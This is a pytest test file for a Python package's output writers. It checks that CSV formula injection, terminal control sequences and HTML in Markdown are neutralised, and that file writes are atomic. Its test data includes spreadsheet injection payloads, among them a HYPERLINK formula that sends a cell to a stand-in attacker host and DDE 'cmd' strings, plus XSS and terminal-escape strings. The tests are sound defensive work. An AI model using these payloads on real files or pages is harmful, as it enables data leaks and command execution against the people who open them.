"""Hostile cases for what kampala writes: CSV cells, files, terminals, messages.

Classes of issue 11 covered here (case ids start with the class):
c1 formula injection in every CSV writer; c3 atomic outputs; c5 docs that
contradict the code; c9 uncaught exceptions on output (``/dev/full``,
``savefig``, Ctrl-C, ``--help``); c10 output suffixes the writer does not
honour; c11 control characters and HTML in printed and Markdown output;
c12 messages in command-line terms, nothing on stdout before a failure,
pickling of any error.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from kampala._internal.atomic import atomic_folder, atomic_open, atomic_path
from kampala._internal.csvsafe import TRIGGERS, escape_cell, unescape_cell
from kampala.data import sample_portfolio
from kampala.errors import KampalaError, ParameterValueError
from kampala.io import read_portfolio, write_portfolio
from kampala.io.coinr import write_results_csv
from kampala.methodology import Methodology
from kampala.portfolio import Portfolio
from tests.hostile.harness import (
    Outcome,
    assert_clean_failure,
    assert_clean_run,
    csv_formula_cells,
    run,
)

ROOT = Path(__file__).resolve().parents[2]

#: Titles a spreadsheet would run (OWASP), and a title that looks escaped.
PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=already quoted",
}

META = """iCode,iName,Parent,Direction,Weight,Type,Level
x,X,P,1,1,Indicator,1
y,Y,P,1,1,Indicator,1
P,Pillar,Index,1,1,Aggregate,2
Index,Index,,1,1,Aggregate,3
"""


def _portfolio(titles: list[str], *, ids: list[str] | None = None) -> Portfolio:
    records = list(sample_portfolio().records[: max(4, len(titles))])
    for k, title in enumerate(titles):
        changes: dict[str, Any] = {"title": title}
        if ids is not None:
            changes["id"] = ids[k]
        records[k] = attrs.evolve(records[k], **changes)
    return Portfolio.from_records(records, name="hostile")


def _iati(title: str) -> str:
    esc = title.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    esc = esc.replace("\t", "&#9;").replace("\r", "&#13;")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<iati-activities version="2.03">
 <iati-activity><iati-identifier>XM-1</iati-identifier>
  <title><narrative>{esc}</narrative></title>
  <recipient-country code="PE"/><sector code="14030"/></iati-activity>
</iati-activities>
"""


def _index_files(folder: Path, name: str) -> tuple[str, str]:
    data = "uCode,uName,x,y\nA,{},1,2\nB,Beta,2,4\nC,Gamma,5,1\n".format(
        '"' + name.replace('"', '""') + '"'
    )
    (folder / "iData.csv").write_text(data, encoding="utf-8")
    (folder / "iMeta.csv").write_text(META, encoding="utf-8")
    return "iData.csv", "iMeta.csv"


def _csv_texts(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


# ---------------------------------------------------------------------------
# c1: formula injection, every CSV writer
# ---------------------------------------------------------------------------
def _writer_cases() -> list[Any]:
    cases = []
    for writer in (
        "score-out",
        "score-stdout",
        "index-out",
        "import-out",
        "import-report",
        "sensitivity-out",
        "write_portfolio",
        "write_results_csv",
    ):
        for name, payload in PAYLOADS.items():
            cases.append(pytest.param(writer, payload, id=f"c1-{writer}-{name}"))
    return cases


def _write_with(writer: str, payload: str, folder: Path) -> tuple[Outcome | None, Path]:
    """Send ``payload`` through ``writer``; return the run and the CSV written."""
    if writer in ("score-out", "score-stdout", "sensitivity-out"):
        pf = _portfolio([payload])
        write_portfolio(pf, folder / "p.json")
    if writer == "score-out":
        return run(["score", "p.json", "--out", "s.csv"], folder), folder / "s.csv"
    if writer == "score-stdout":
        out = run(["score", "p.json", "--format", "csv"], folder)
        (folder / "stdout.csv").write_text(out.stdout, encoding="utf-8")
        return out, folder / "stdout.csv"
    if writer == "index-out":
        data, meta = _index_files(folder, payload)
        return run(["index", data, meta, "--out", "i.csv"], folder), folder / "i.csv"
    if writer in ("import-out", "import-report"):
        (folder / "a.xml").write_text(_iati(payload), encoding="utf-8")
        opt, name = (
            ("--out", "p.csv") if writer == "import-out" else ("--report", "r.csv")
        )
        return run(["import", "a.xml", opt, name], folder), folder / name
    if writer == "sensitivity-out":
        pf = _portfolio(["x"], ids=[payload.replace("\t", "").replace("\r", "") or "x"])
        write_portfolio(pf, folder / "p.json")
        args = ["sensitivity", "p.json", "--n", "64", "--rng", "1", "--out", "o"]
        return run([*args, "--analysis", "uncertainty"], folder), folder / "o" / (
            "uncertainty.csv"
        )
    if writer == "write_portfolio":
        write_portfolio(_portfolio([payload]), folder / "w.csv")
        return None, folder / "w.csv"
    rows = [{"unit": payload, "score": -1.5, "rank": 1}]
    write_results_csv(folder / "r.csv", rows, ["unit", "score", "rank"])
    return None, folder / "r.csv"


@pytest.mark.parametrize(("writer", "payload"), _writer_cases())
def test_c1_no_formula_reaches_a_spreadsheet(
    writer: str, payload: str, tmp_path: Path
) -> None:
    outcome, path = _write_with(writer, payload, tmp_path)
    if outcome is not None:
        assert outcome.status == 0, outcome.stderr
        assert_clean_run(outcome, tmp_path)
    assert path.exists()
    assert csv_formula_cells(path) == []


@pytest.mark.parametrize(
    "payload", [pytest.param(p, id=f"c1-roundtrip-{n}") for n, p in PAYLOADS.items()]
)
def test_c1_portfolio_csv_reads_back_what_was_written(
    payload: str, tmp_path: Path
) -> None:
    ids = ["=ID-1", "-ID-2", "'+ID-3", "ID-4"]
    pf = _portfolio([payload, "b", "c", "d"], ids=ids)
    write_portfolio(pf, tmp_path / "p.csv")
    back = read_portfolio(tmp_path / "p.csv")
    assert [r.id for r in back.records[:4]] == ["=ID-1", "-ID-2", "'+ID-3", "ID-4"]
    assert back.records[0].title == payload


def test_c1_numbers_are_never_escaped(tmp_path: Path) -> None:
    rows = [{"u": "A", "v": -1.5, "w": -3, "x": float("nan"), "y": None}]
    write_results_csv(tmp_path / "n.csv", rows, ["u", "v", "w", "x", "y"])
    assert (tmp_path / "n.csv").read_text().splitlines()[1] == "A,-1.5,-3,NA,NA"


@pytest.mark.parametrize(
    "command",
    [
        pytest.param(["score", "p.json", "--out", "s.csv"], id="c1-off-score"),
        pytest.param(["import", "a.xml", "--out", "s.csv"], id="c1-off-import"),
    ],
)
def test_c1_escape_can_be_switched_off(command: list[str], tmp_path: Path) -> None:
    write_portfolio(_portfolio(["=1+1"]), tmp_path / "p.json")
    (tmp_path / "a.xml").write_text(_iati("=1+1"), encoding="utf-8")
    out = run([*command, "--no-formula-escape"], tmp_path)
    assert out.status == 0, out.stderr
    assert "=1+1" in _csv_texts(tmp_path / "s.csv") or any(
        c.startswith("=1+1") for c in _csv_texts(tmp_path / "s.csv")
    )


def test_c1_python_writers_can_switch_it_off(tmp_path: Path) -> None:
    write_portfolio(_portfolio(["@x"]), tmp_path / "p.csv", formula_escape=False)
    assert "@x" in _csv_texts(tmp_path / "p.csv")
    buf = io.StringIO()
    write_results_csv(buf, [{"a": "=1"}], ["a"], formula_escape=False)
    assert buf.getvalue() == "a\n=1\n"


text_cells = st.text(
    alphabet=st.characters(blacklist_categories=["Cs"]), max_size=12
) | st.sampled_from(TRIGGERS).flatmap(
    lambda t: st.text(max_size=6).map(lambda s: t + s)
)


@settings(max_examples=200, deadline=None)
@given(text=text_cells, quotes=st.integers(0, 3))
def test_c1_escape_round_trips_and_disarms(text: str, quotes: int) -> None:
    cell = "'" * quotes + text
    escaped = escape_cell(cell)
    assert unescape_cell(escaped) == cell
    assert not escaped.startswith(TRIGGERS)


@settings(max_examples=25, deadline=None)
@given(
    title=st.text(
        alphabet=st.characters(
            blacklist_categories=["Cs", "Cc"],
            whitelist_characters="\t=+-@'\"",
        ),
        min_size=1,
        max_size=20,
    ).filter(lambda t: t.strip() == t and t.strip())
)
def test_c1_random_titles_round_trip_through_csv(title: str) -> None:
    try:
        pf = _portfolio([title])
    except KampalaError:
        assume(False)
    buf = io.StringIO()
    from kampala.io._csv_format import write_csv

    write_csv(pf, buf)
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "p.csv"
        path.write_text(buf.getvalue(), encoding="utf-8", newline="")
        assert csv_formula_cells(path) == []
        assert read_portfolio(path).records[0].title == title


@settings(max_examples=15, deadline=None)
@given(
    title=st.text(
        alphabet=st.characters(blacklist_categories=["Cs"]), min_size=1, max_size=16
    )
)
def test_c1_random_titles_through_the_score_csv(title: str) -> None:
    from kampala.cli import _format_scorecard

    try:
        pf = _portfolio([title])
    except KampalaError:  # a title the records refuse (blank, ...): not a writer case
        assume(False)
    card = Methodology.default().run(pf)
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "s.csv"
        path.write_text(_format_scorecard(card, "csv"), encoding="utf-8", newline="")
        assert csv_formula_cells(path) == []


# ---------------------------------------------------------------------------
# c3: atomic outputs
# ---------------------------------------------------------------------------
def _break_after(monkeypatch: pytest.MonkeyPatch, target: Any, name: str) -> None:
    """Make ``target.name`` write half its work, then fail (a full disk)."""
    real = getattr(target, name)

    def half(*args: Any, **kwargs: Any) -> Any:
        real(*args, **kwargs)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(target, name, half)


def _no_leftovers(folder: Path) -> None:
    assert not [p for p in folder.rglob("*") if p.name.endswith(".part")]


@pytest.mark.parametrize(
    ("command", "patch"),
    [
        pytest.param(
            ["score", "--format", "json", "--out", "old.json"],
            "json",
            id="c3-score-out",
        ),
        pytest.param(
            ["score", "--format", "csv", "--out", "old.csv"], "csv", id="c3-score-csv"
        ),
        pytest.param(
            ["index", "iData.csv", "iMeta.csv", "--out", "old.csv"],
            "csv",
            id="c3-index-out",
        ),
        pytest.param(
            ["import", "a.xml", "--out", "old.csv"], "csv", id="c3-import-out"
        ),
        pytest.param(
            ["import", "a.xml", "--out", "p.json", "--report", "old.csv"],
            "csv",
            id="c3-import-report",
        ),
        pytest.param(["methodology", "--out", "old.md"], "json", id="c3-methodology"),
    ],
)
def test_c3_a_failed_write_leaves_the_old_file(
    command: list[str], patch: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _index_files(tmp_path, "Alpha")
    (tmp_path / "a.xml").write_text(_iati("Agua"), encoding="utf-8")
    for name in ("old.json", "old.csv", "old.md"):
        (tmp_path / name).write_text("precious\n", encoding="utf-8")
    import kampala._internal.atomic as atomic

    # every writer goes through atomic_path: fail just before the rename
    real = atomic.os.replace

    def full_disk(src: Any, dst: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(atomic.os, "replace", full_disk)
    out = run(command, tmp_path)
    monkeypatch.setattr(atomic.os, "replace", real)
    assert_clean_failure(out, names=["No space left on device"])
    for name in ("old.json", "old.csv", "old.md"):
        assert (tmp_path / name).read_text(encoding="utf-8") == "precious\n"
    _no_leftovers(tmp_path)
    assert not (tmp_path / "p.json").exists()


def test_c3_a_writer_that_raises_midway(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import kampala.io.coinr as coinr

    (tmp_path / "old.csv").write_text("precious\n")
    _index_files(tmp_path, "Alpha")

    real = csv.writer

    class Dying:
        def __init__(self, fh: Any, **kw: Any) -> None:
            self.w = real(fh, **kw)
            self.n = 0

        def writerow(self, row: Any) -> None:
            self.n += 1
            if self.n > 2:
                raise OSError(27, "File too large")
            self.w.writerow(row)

    monkeypatch.setattr(coinr.csv, "writer", Dying)
    out = run(["index", "iData.csv", "iMeta.csv", "--out", "old.csv"], tmp_path)
    assert_clean_failure(out, names=["old.csv", "File too large"])
    assert (tmp_path / "old.csv").read_text() == "precious\n"
    _no_leftovers(tmp_path)


@pytest.mark.parametrize("exists", [True, False], ids=["c3-dir-exists", "c3-dir-new"])
def test_c3_a_folder_of_outputs_appears_whole_or_not_at_all(
    exists: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import matplotlib.figure

    out_dir = tmp_path / "o"
    if exists:
        out_dir.mkdir()
        (out_dir / "uncertainty.csv").write_text("old\n")
        (out_dir / "mine.txt").write_text("keep\n")

    def broken(self: Any, *args: Any, **kwargs: Any) -> None:
        raise ValueError("Format 'png' is not supported")

    monkeypatch.setattr(matplotlib.figure.Figure, "savefig", broken)
    args = ["sensitivity", "--n", "64", "--rng", "3", "--out", "o"]
    out = run([*args, "--analysis", "uncertainty"], tmp_path)
    assert_clean_failure(out, names=["kampala sensitivity", "rank_intervals.png"])
    assert out.stdout == ""
    if exists:
        assert sorted(p.name for p in out_dir.iterdir()) == [
            "mine.txt",
            "uncertainty.csv",
        ]
        assert (out_dir / "uncertainty.csv").read_text() == "old\n"
    else:
        assert not out_dir.exists()
    _no_leftovers(tmp_path)
    assert [p.name for p in tmp_path.iterdir()] == (["o"] if exists else [])


def test_c3_the_helpers_clean_up(tmp_path: Path) -> None:
    target = tmp_path / "t.txt"
    target.write_text("old")

    def interrupted() -> None:
        with atomic_open(target) as f:
            f.write("new")
            raise KeyboardInterrupt

    def failed() -> None:
        with atomic_folder(tmp_path / "d") as path:
            path("a").write_text("a")
            raise RuntimeError

    with pytest.raises(KeyboardInterrupt):
        interrupted()
    assert target.read_text() == "old"
    with pytest.raises(RuntimeError):
        failed()
    with pytest.raises(IsADirectoryError), atomic_path(tmp_path):
        pass
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.txt"]


def test_c3_permissions_follow_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "t.csv"
    target.write_text("old")
    target.chmod(0o640)
    write_results_csv(target, [{"a": 1}], ["a"])
    assert target.stat().st_mode & 0o777 == 0o640


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX resource limits")
def test_c3_file_size_limit_keeps_the_old_file(tmp_path: Path) -> None:
    """``ulimit -f``: the write fails with EFBIG; the old file is intact."""
    (tmp_path / "old.json").write_text("precious\n")
    code = (
        "import resource, signal, sys\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))\n"
        "from kampala.cli import main\n"
        "sys.exit(main(['score', '--format', 'json', '--out', 'old.json']))\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    proc = subprocess.run(
        [sys.executable, "-c", code],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
        check=False,
    )
    assert proc.returncode == 2, proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert "File too large" in proc.stderr
    assert (tmp_path / "old.json").read_text() == "precious\n"
    assert [p.name for p in tmp_path.iterdir()] == ["old.json"]


# ---------------------------------------------------------------------------
# c9: output failures, interrupts, --help
# ---------------------------------------------------------------------------
@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize(
    "command",
    [
        pytest.param(["methodology"], id="c9-devfull-methodology"),
        pytest.param(["--help"], id="c9-devfull-help"),
    ],
)
def test_c9_stdout_to_dev_full(command: list[str], tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [sys.executable, "-m", "kampala", *command],
            cwd=tmp_path,
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            env=env,
            check=False,
        )
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    assert "standard output" in lines[0]


def test_c9_ctrl_c_anywhere_exits_130(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import kampala.cli as cli

    def interrupted(args: Any) -> int:
        raise KeyboardInterrupt

    monkeypatch.setitem(cli._COMMANDS, "score", interrupted)
    out = run(["score"], tmp_path)
    assert out.status == 130
    assert out.error_lines == ["kampala: interrupted"]
    assert out.changed == ()


@pytest.mark.parametrize(
    ("argv", "status"),
    [
        pytest.param(["--help"], 0, id="c9-help"),
        pytest.param(["--version"], 0, id="c9-version"),
        pytest.param(["score", "--help"], 0, id="c9-sub-help"),
        pytest.param(["score", "--nope"], 2, id="c9-usage"),
    ],
)
def test_c9_main_returns_and_never_exits(
    argv: list[str], status: int, tmp_path: Path
) -> None:
    from kampala.cli import main

    assert main(argv) == status


# ---------------------------------------------------------------------------
# c10: output suffixes
# ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "names"),
    [
        pytest.param(
            ["index", "iData.csv", "iMeta.csv", "--out", "x.xlsx"],
            ["--out", "'.xlsx'", ".csv"],
            id="c10-index-xlsx",
        ),
        pytest.param(
            ["index", "iData.csv", "iMeta.csv", "--save-methodology", "m.toml"],
            ["--save-methodology", "'.toml'"],
            id="c10-index-toml",
        ),
        pytest.param(
            ["import", "a.xml", "--out", "p.ods"],
            ["--out", ".jsonl"],
            id="c10-import-out-ods",
        ),
        pytest.param(
            ["import", "a.xml", "--out", "portfolio"],
            ["--out", ".csv"],
            id="c10-import-out-none",
        ),
        pytest.param(
            ["import", "a.xml", "--report", "r.xlsx"],
            ["--report", "'.xlsx'"],
            id="c10-import-report-xlsx",
        ),
        pytest.param(
            ["score", "--format", "csv", "--out", "s.json"],
            ["--out", "--format"],
            id="c10-score-mismatch",
        ),
        pytest.param(
            ["score", "--format", "json", "--out", "s.xlsx"],
            ["--out", "'.xlsx'"],
            id="c10-score-xlsx",
        ),
        pytest.param(["demo", "--asem", "--top", "-5"], ["--top"], id="c10-top"),
        pytest.param(["demo", "--asem", "--top", "0"], ["--top"], id="c10-top-0"),
    ],
)
def test_c10_an_output_suffix_not_honoured_is_refused(
    command: list[str], names: list[str], tmp_path: Path
) -> None:
    _index_files(tmp_path, "Alpha")
    (tmp_path / "a.xml").write_text(_iati("Agua"), encoding="utf-8")
    out = run(command, tmp_path)
    assert_clean_failure(out, names=names)
    assert out.stdout == ""


def test_c10_import_report_json_is_json(tmp_path: Path) -> None:
    (tmp_path / "a.xml").write_text(_iati("Agua"), encoding="utf-8")
    out = run(["import", "a.xml", "--report", "r.json"], tmp_path)
    assert out.status == 0, out.stderr
    rows = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert rows[0]["activity"] == "XM-1"


@pytest.mark.parametrize(
    ("name", "first"),
    [
        pytest.param("s.csv", "# kampala", id="c10-score-csv"),
        pytest.param("s.json", "{", id="c10-score-json"),
    ],
)
def test_c10_score_writes_the_format_its_suffix_names(
    name: str, first: str, tmp_path: Path
) -> None:
    out = run(["score", "--out", name], tmp_path)
    assert out.status == 0, out.stderr
    assert (tmp_path / name).read_text(encoding="utf-8").startswith(first)


# ---------------------------------------------------------------------------
# c11: what a terminal or a Markdown renderer receives
# ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    "title",
    [
        pytest.param("\x1b[2J\x1b]0;pwned\x07", id="c11-esc"),
        pytest.param("nul\x00byte", id="c11-nul"),
        pytest.param("c1\x9bcsi", id="c11-c1"),
        pytest.param("bidi\u202eevil", id="c11-bidi"),
        pytest.param("two\nlines", id="c11-newline"),
    ],
)
def test_c11_table_output_escapes_control_characters(
    title: str, tmp_path: Path
) -> None:
    # ids with control characters are refused on input (c6); titles are not
    write_portfolio(_portfolio([title], ids=["ID-1"]), tmp_path / "p.json")
    for command in (
        ["score", "p.json"],
        ["sensitivity", "p.json", "--n", "64", "--analysis", "uncertainty"],
    ):
        out = run(command, tmp_path)
        assert out.status == 0, out.stderr
        bad = [ch for ch in out.stdout if ch != "\n" and not ch.isprintable()]
        assert bad == [], bad
    _, meta = _index_files(tmp_path, title.replace("\x00", ""))
    out = run(["index", "iData.csv", meta], tmp_path)
    assert out.status == 0, out.stderr
    assert [ch for ch in out.stdout if ch != "\n" and not ch.isprintable()] == []


def test_c11_lone_surrogate_in_a_table(tmp_path: Path) -> None:
    from kampala._internal.terminal import shown as _shown

    assert _shown("x\ud800y") == "x\\ud800y"
    assert _shown("Agua \u2013 señal") == "Agua \u2013 señal"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        pytest.param("title", "<script>alert(1)</script>", id="c11-md-title"),
        pytest.param(
            "description",
            "<img src=x onerror=alert(1)>\n# Fake",
            id="c11-md-description",
        ),
        pytest.param("title", "x\n\n# Injected heading", id="c11-md-newline"),
    ],
)
def test_c11_methodology_markdown_escapes_html(
    field: str, value: str, tmp_path: Path
) -> None:
    m = attrs.evolve(Methodology.default(), id="M-1", **{field: value})
    text = m.to_markdown()
    assert "<script" not in text
    assert "<img" not in text
    assert "\n# Injected" not in text
    assert "\n# Fake" not in text
    (tmp_path / "m.json").write_text(m.to_json(), encoding="utf-8")
    out = run(["methodology", "--methodology", "m.json"], tmp_path)
    assert out.status == 0, out.stderr
    assert "<script" not in out.stdout
    assert "<img" not in out.stdout


# ---------------------------------------------------------------------------
# c12: messages in command-line terms; no stdout before a failure; pickling
# ---------------------------------------------------------------------------
def test_c12_lowercase_principle_codes_are_accepted(tmp_path: Path) -> None:
    out = run(
        ["score", "--weights", "p1=2,p3.diversity=1", "--format", "json"], tmp_path
    )
    if out.status == 2:  # a criterion code the framework lacks: named, listed
        assert "P1, P2, P3, P4, P5" in out.stderr
        out = run(["score", "--weights", "p1=2", "--format", "json"], tmp_path)
    assert out.status == 0, out.stderr


@pytest.mark.parametrize(
    ("command", "names", "banned"),
    [
        pytest.param(
            ["score", "--weights", "P9=1"],
            ["--weights", "'P9'", "P1, P2, P3, P4, P5"],
            "Framework.node",
            id="c12-weights-code",
        ),
        pytest.param(
            ["sensitivity", "--n", "16", "--rng", "0"],
            ["--n", "256", "(got 16)"],
            "method=",
            id="c12-sobol-n",
        ),
        pytest.param(
            ["import", "a.xml", "--out", "x.txt"],
            ["--out", ".csv"],
            "Pass format=",
            id="c12-import-format",
        ),
        pytest.param(
            ["import", "missing.xml"],
            ["missing.xml"],
            "Traceback",
            id="c12-import-no-stdout",
        ),
    ],
)
def test_c12_cli_messages_speak_cli(
    command: list[str], names: list[str], banned: str, tmp_path: Path
) -> None:
    (tmp_path / "a.xml").write_text(_iati("Agua"), encoding="utf-8")
    out = run(command, tmp_path)
    assert_clean_failure(out, names=names)
    assert banned not in out.stderr
    assert out.stdout == ""


def test_c12_sobol_n_in_cli_terms(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kampala import sensitivity as sa

    def too_few(*args: Any, n: int, **kwargs: Any) -> Any:
        raise ParameterValueError(
            "sensitivity_analysis()", "n", n, "large enough", hint="Use n >= 64."
        )

    monkeypatch.setattr(sa, "sensitivity_analysis", too_few)
    out = run(["sensitivity", "--n", "16", "--rng", "0"], tmp_path)
    assert_clean_failure(out, names=["'--n' must be at least 256", "(got 16)"])
    assert "sensitivity_analysis()" not in out.stderr
    assert out.stdout == ""


def test_c12_cli_translation_of_python_hints() -> None:
    from kampala.cli import _for_cli

    exc = ParameterValueError(
        "uncertainty_analysis()",
        "n",
        100,
        "a power of 2",
        hint="Use 64 or 128, or method='random'.",
    )
    assert "method=" not in _for_cli(exc)


@pytest.mark.parametrize(
    "value",
    [
        pytest.param(threading.Lock(), id="c12-pickle-lock"),
        pytest.param(lambda: 1, id="c12-pickle-lambda"),
        pytest.param((x for x in [1]), id="c12-pickle-generator"),
    ],
)
def test_c12_an_error_with_an_unpicklable_value_pickles(value: object) -> None:
    err = ParameterValueError("f()", "x", value, "picklable", hint="Hint.")
    back = pickle.loads(pickle.dumps(err))
    assert isinstance(back, ParameterValueError)
    assert str(back) == str(err)
    assert back.field == "x"


def test_c12_python_writers_raise_kampala_errors(tmp_path: Path) -> None:
    pf = sample_portfolio()
    with pytest.raises(KampalaError):
        write_portfolio(pf, tmp_path / "nope" / "p.csv")
    with pytest.raises(KampalaError):
        write_portfolio(pf, tmp_path / "p.ods")
    with pytest.raises(KampalaError):
        write_portfolio("not a portfolio", tmp_path / "p.csv")  # type: ignore[arg-type]
    _no_leftovers(tmp_path)


# ---------------------------------------------------------------------------
# c5: docs that contradicted the code
# ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    "page",
    [
        pytest.param("docs/reference/cli.md", id="c5-cli"),
        pytest.param("docs/reference/errors.md", id="c5-errors"),
        pytest.param("docs/methodology/aggregation.md", id="c5-aggregation"),
    ],
)
def test_c5_docs_show_the_geometric_mean_message_the_code_gives(page: str) -> None:
    text = (ROOT / page).read_text(encoding="utf-8")
    assert "must be > 0 for the geometric mean" not in text
    assert "values must be > 0" not in text


def test_c5_the_documented_message_is_the_real_one(tmp_path: Path) -> None:
    _index_files(tmp_path, "Alpha")
    out = run(
        [
            "index",
            "iData.csv",
            "iMeta.csv",
            "--normalise",
            "min-max:-1,1",
            "--aggregate",
            "geometric",
        ],
        tmp_path,
    )
    assert_clean_failure(out, names=["must be >= 0 for the geometric mean"])
    doc = (ROOT / "docs/reference/cli.md").read_text(encoding="utf-8")
    assert "must be >= 0 for the geometric mean" in doc


# ---------------------------------------------------------------------------
# c6 (output side): a lone surrogate that got this far is refused cleanly
# ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name", [pytest.param(n, id=f"c6-out-{n}") for n in ("p.json", "p.jsonl", "p.csv")]
)
def test_c6_a_lone_surrogate_is_not_written_half(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_text("precious\n")
    with pytest.raises(KampalaError, match="lone surrogate"):
        write_portfolio(_portfolio(["x\ud800y"]), tmp_path / name)
    assert (tmp_path / name).read_text() == "precious\n"
    _no_leftovers(tmp_path)


def test_c6_cli_output_with_a_lone_surrogate(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import kampala.cli as cli

    (tmp_path / "s.json").write_text("precious\n")
    monkeypatch.setattr(cli, "_format_scorecard", lambda *a, **k: "x\ud800y")
    out = run(["score", "--out", "s.json"], tmp_path)
    assert_clean_failure(out, names=["s.json", "--out", "lone surrogate"])
    assert (tmp_path / "s.json").read_text() == "precious\n"
